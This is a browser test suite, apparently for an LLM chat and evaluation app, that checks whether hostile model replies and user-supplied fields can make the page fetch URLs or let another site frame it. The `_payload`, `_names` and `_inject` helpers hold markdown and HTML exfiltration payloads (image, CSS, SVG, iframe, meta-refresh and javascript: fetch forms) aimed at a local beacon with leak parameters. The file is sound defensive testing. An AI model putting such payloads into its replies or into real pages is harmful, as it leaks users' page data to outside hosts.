"""A reply that tries to make the reader's browser fetch a URL (to leak the page) fetches nothing, in real Chromium."""
from __future__ import annotations

import http.server
import threading
import time
import urllib.parse
import urllib.request

import pytest

from tests.browser import DemoProcess, demo_env, fill_run, send_compare
from tests.fake_servers import Scenario


class _Beacon(http.server.BaseHTTPRequestHandler):
    hits: list = []

    def do_GET(self):  # noqa: N802 (the stdlib's name)
        _Beacon.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a")

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def beacon_server():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Beacon)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture
def beacon(beacon_server):
    _Beacon.hits = []
    return beacon_server


def _payload(url: str) -> list[str]:
    # each a way a Markdown or HTML renderer would load a URL of the model's choosing
    return [f"Here you go ![chart]({url}/md?leak=SECRET) and ",
            f'<img src="{url}/img?leak=SECRET"> ',
            f'<div style="background:url({url}/css?leak=SECRET)">styled</div> ',
            f'<link rel="stylesheet" href="{url}/link?leak=SECRET"> ',
            f"![ref][r]\n\n[r]: {url}/ref?leak=SECRET\n\n",
            # the CommonMark forms the old regexes missed: a shortcut reference, brackets in the alt, two-line alt
            f"![s]\n\n[s]: {url}/shortcut?leak=SECRET\n\n",
            f"![a [b] c]({url}/brackets?leak=SECRET) and ![two\nlines]({url}/twolines?leak=SECRET)\n\n",
            f'<svg><image href="{url}/svg?leak=SECRET"/></svg> <iframe src="{url}/frame?leak=SECRET"></iframe> ',
            f'<meta http-equiv="refresh" content="0;url={url}/meta?leak=SECRET"> <video poster="{url}/poster?leak=SECRET">'
            f'</video> <object data="{url}/object?leak=SECRET"></object> [js](javascript:fetch("{url}/js")) ',
            f"and a plain link [docs]({url}/clicked-only) that is not followed by itself."]


def _without_csp(route):
    """The page as a proxy that drops headers would serve it: no Content-Security-Policy.

    Only a document's policy governs what the page loads, so only documents are refetched: fetching a
    never-ending event stream (the heartbeat, the queue) through the route would wait for its end."""
    if route.request.resource_type != "document":
        route.continue_()
        return
    response = route.fetch()
    headers = {k: v for k, v in response.headers.items() if k.lower() != "content-security-policy"}
    route.fulfill(response=response, headers=headers)


def _names(url: str) -> list[str]:
    """Short hostile names, for what people name: models, variants, rubric criteria, question ids, set names."""
    return [f"![n]({url}/name?leak=1)", f"<img src={url}/tag?leak=1>", "![s [t] u](/logout?leak=1)"]


def _study(folder, url: str):
    """A question set and a rubric as an attacker would write them: every field that is text holds a payload."""
    import yaml

    names, text = _names(url), "".join(_payload(url))
    questions = [{"id": f"q{n} {name}", "question": f"Question {n}: {text}", "reference": f"Reference {n}: {text}"}
                 for n, name in enumerate(names, 1)]
    study = folder / "hostile.yaml"
    study.write_text(yaml.safe_dump({"name": f"set {names[0]}", "questions": questions,
                                     "variants": [{"name": f"v {name}", "system": "Be brief."} for name in names[:2]]},
                                    allow_unicode=True))
    rubric = folder / "rubric.yaml"
    rubric.write_text(yaml.safe_dump({"scale": "1-5", "acceptable": 4, "criteria": [
        {"id": cid, "label": f"{cid} {name}"} for cid, name in zip(("answers", "concise", "natural"), names)]}))
    return study, rubric


# every element that loads a URL, and links that run script; the app's own icons are inline <svg> with no image
LOADERS = ("img, image, iframe, frame, video, audio, source, object, embed, meta[http-equiv], link[href*='leak'], "
           "a[href^='javascript'], [style*='url(']")


def _loaders(page) -> list[str]:
    """What could load a URL, but Gradio's own icons (images whose source is inline data)."""
    return page.eval_on_selector_all(LOADERS, "els => els.filter(e => !(e.tagName === 'IMG' && /^(data|blob):/"
                                     ".test(e.getAttribute('src') || ''))).map(e => e.outerHTML.slice(0, 200))")


def _until(page, selector: str, text: str, timeout: int = 30_000) -> None:
    page.wait_for_function("([s, t]) => (document.querySelector(s) || {innerText: ''}).innerText.includes(t)",
                           arg=[selector, text], timeout=timeout)


@pytest.fixture(scope="module")
def hostile_app(fake_server, beacon_server, tmp_path_factory):
    """One app for the attack with the policy and without (the policy is dropped in the browser): its rubric's
    labels carry the payload, and each run of the attack writes its own rows, votes and run."""
    folder = tmp_path_factory.mktemp("hostile")
    study, rubric = _study(folder, beacon_server)
    demo = DemoProcess(demo_env(fake_server.url), ["--auth", "alice:wonder-1", "--rubric", str(rubric)],
                       folder / "chat.db")
    yield demo, study
    demo.stop()


def test_nothing_an_attacker_writes_anywhere_makes_the_browser_fetch_anything(browser, fake_server, hostile_app, beacon):
    """Payloads in replies, prompts, questions, references, model, variant and set names and rubric labels; read in
    Chat, Compare, the Runs answers, rating view and decision, the Logs detail, a toast and the HTML report. No element
    loads anything, no request is made, same-origin or not, and the reader stays logged in.

    The walk is made with the policy dropped (as a proxy that strips headers would serve the pages): the renderer is
    the first wall, on its own. A walk with the policy on could not fail where this one passes (a policy only ever
    blocks), so the policy is tested as the second wall directly: markup the renderer would have let through, put in
    the page behind the renderer's back, loads nothing under the policy and reaches the beacon without it."""
    hostile = [f"openai:{name}" for name in _names(beacon)[:2]]
    fake_server.default = Scenario(chunks=_payload(beacon), input_tokens=20, output_tokens=40)
    demo, study = hostile_app
    fetched: list[str] = []
    with urllib.request.urlopen(demo.url, timeout=10) as page:  # the login page
        policy = page.headers["Content-Security-Policy"]
    assert "img-src data: blob:" in policy and "connect-src 'self'" in policy
    context = browser.new_context(viewport={"width": 1280, "height": 860})
    context.route("**/*", _without_csp)  # every page as a proxy that drops headers would serve it
    page = context.new_page()
    page.on("request", lambda r: fetched.append(r.url) if "leak" in r.url or "logout" in r.url else None)
    page.goto(demo.url)
    page.wait_for_selector("input[type=password]", timeout=30_000)
    page.locator("input[type=text]").first.fill("alice")
    page.fill("input[type=password]", "wonder-1")
    page.keyboard.press("Enter")
    page.wait_for_selector("#prompt textarea", timeout=60_000)
    # Chat: a hostile model name and a hostile prompt, answered by a hostile reply
    page.fill("#model input", hostile[0])
    page.keyboard.press("Enter")
    page.fill("#prompt textarea", "".join(_payload(beacon)))
    page.keyboard.press("Enter")
    _until(page, "#chatbot", "TTFT")
    assert "![n](" in page.inner_text("#chatbot") and "<img" in page.inner_text("#chatbot")  # shown, as text
    # Compare: both columns, their names shown, and a vote's toast naming the model
    page.get_by_role("tab", name="Compare").click()
    send_compare(page, hostile, "show me the chart")
    for i in range(2):
        _until(page, f"#compare-meter-{i}", "TTFT")
    page.click("#compare-vote-1")
    page.wait_for_selector("[data-testid=toast-body]", timeout=10_000)
    toast = page.inner_text("[data-testid=toast-body]")
    assert "Vote recorded for B (openai:<img src=" in toast, toast  # the name as typed, as text
    # Runs: the hostile set, run on a hostile model and a plain one, under both hostile variants
    fill_run(page, (hostile[1], "gpt-4o-mini"), repeats=1, example=None)
    page.set_input_files("#run-upload input[type=file]", str(study))
    page.click("#run-go")
    _until(page, "#run-status", "· done", timeout=60_000)
    _until(page, "#decide-verdict", "v ![n](")  # the decision names the candidates, as text
    page.get_by_role("button", name="Rate answers").click()
    page.click("#run-blind input")  # names shown: in the answers and the rating view
    _until(page, "#run-answers", "Reference 1")
    page.fill("#run-rater textarea, #run-rater input", "alice")
    page.click("#run-next")
    _until(page, "#run-who", "Model:")
    _until(page, "#run-question", "Question")
    # the HTML report, as a reader opens the file: no policy of the app's around it at all
    page.click("#run-export")
    link = page.locator("#run-files a[href*='.html']").first
    link.wait_for(timeout=30_000)
    report_url = urllib.parse.urljoin(demo.url, link.get_attribute("href"))
    report = context.request.get(report_url).text()
    # Logs: the chat's row in full
    page.get_by_role("tab", name="Logs").click()
    page.click("#logs-table [data-testid='cell-0-1']")
    _until(page, "#logs-detail", "What was sent")
    page.wait_for_timeout(1500)  # time for anything to be requested
    made = _loaders(page)
    reader = context.new_page()
    reader.on("request", lambda r: fetched.append(r.url) if "leak" in r.url or "logout" in r.url else None)
    reader.set_content(report)
    assert "Reference 1" in reader.inner_text("body") and "![n](" in reader.inner_text("body")
    reader.wait_for_timeout(1000)
    made += _loaders(reader)
    assert made == [], made
    assert fetched == [], f"the browser asked for {fetched}"
    assert _Beacon.hits == [], f"the beacon was fetched: {_Beacon.hits}"

    # still logged in; and the page as the app serves it, with its policy: the second wall
    context.unroute("**/*")
    page.goto(demo.url)
    page.wait_for_selector("#prompt textarea", timeout=30_000)
    _inject(page, beacon)
    assert _Beacon.hits == [], f"past the policy: {_Beacon.hits}"
    assert {"img-src", "style-src-elem", "object-src"} <= set(_violations(page)), _violations(page)
    # the same markup where no policy stands (the report as a file) reaches the beacon: the check above can fail
    _inject(reader, beacon)
    deadline = time.monotonic() + 10
    loaded = {"/img", "/css", "/svg", "/poster"}
    while not loaded <= {h.split("?")[0] for h in _Beacon.hits} and time.monotonic() < deadline:
        time.sleep(0.05)
    assert loaded <= {h.split("?")[0] for h in _Beacon.hits}, _Beacon.hits
    context.close()


def _inject(page, url: str) -> None:
    """Markup that loads URLs, put in the page by script (as a renderer that let it through would), with a listener
    for the policy's refusals, and a second for anything to be requested."""
    page.evaluate("""html => {
        window.__violations = [];
        document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.effectiveDirective));
        const box = document.createElement('div');
        box.innerHTML = html;
        document.body.appendChild(box);
    }""", f'<img src="{url}/img?leak=2"><div style="background:url({url}/css?leak=2)">x</div>'
          f'<link rel="stylesheet" href="{url}/link?leak=2"><svg><image href="{url}/svg?leak=2"/></svg>'
          f'<video poster="{url}/poster?leak=2"></video><object data="{url}/object?leak=2"></object>'
          f'<img src="/logout?leak=2">')
    page.wait_for_timeout(1000)  # time for anything to be requested


def _violations(page) -> list[str]:
    return page.evaluate("window.__violations")


def _site(pages: dict[str, str]) -> tuple[http.server.ThreadingHTTPServer, str]:
    """Another origin on loopback serving these pages: what an attacker's site (or an intranet) would be."""
    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (the stdlib's name)
            body = pages.get(self.path, "").encode()
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


def test_another_site_cannot_frame_the_app_unless_the_operator_lists_it(browser, fake_server, hostile_app, tmp_path):
    """With no frame-ancestors and no X-Frame-Options, another site could frame the app and trick a reader into
    logging in, or a logged-in one into clicking Send or Run. The browser now refuses the frame (the attack's app,
    with the default policy, shows its login form nowhere inside another site); --frame-ancestors lets an intranet
    embed it."""

    framing = "<html><body><iframe id=app src='{url}' width=900 height=700></iframe></body></html>"
    pages: dict[str, str] = {}
    site, origin = _site(pages)
    refused = hostile_app[0]
    allowed = DemoProcess(demo_env(fake_server.url), ["--frame-ancestors", f"'self' {origin}"], tmp_path / "b.db")
    pages.update({"/attack": framing.format(url=refused.url), "/intranet": framing.format(url=allowed.url)})
    try:
        with urllib.request.urlopen(refused.url, timeout=10) as page:
            assert "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]
            assert page.headers["X-Frame-Options"] == "DENY"
        page = browser.new_page()
        # an operator who embeds the app in its own site lists it, and the app loads in the frame
        page.goto(f"{origin}/intranet")
        page.frame_locator("#app").locator("#prompt textarea").wait_for(timeout=60_000)
        # the attacker's site: the browser refuses to show the app inside it (an error page in its place)
        page.goto(f"{origin}/attack")  # returns once the page and its frame have loaded, the error page included
        framed = page.frames[1]
        assert framed.url.startswith("chrome-error://"), framed.url
        assert page.frame_locator("#app").locator("input[type=password], #prompt textarea").count() == 0
        page.close()
    finally:
        allowed.stop()
        site.shutdown()
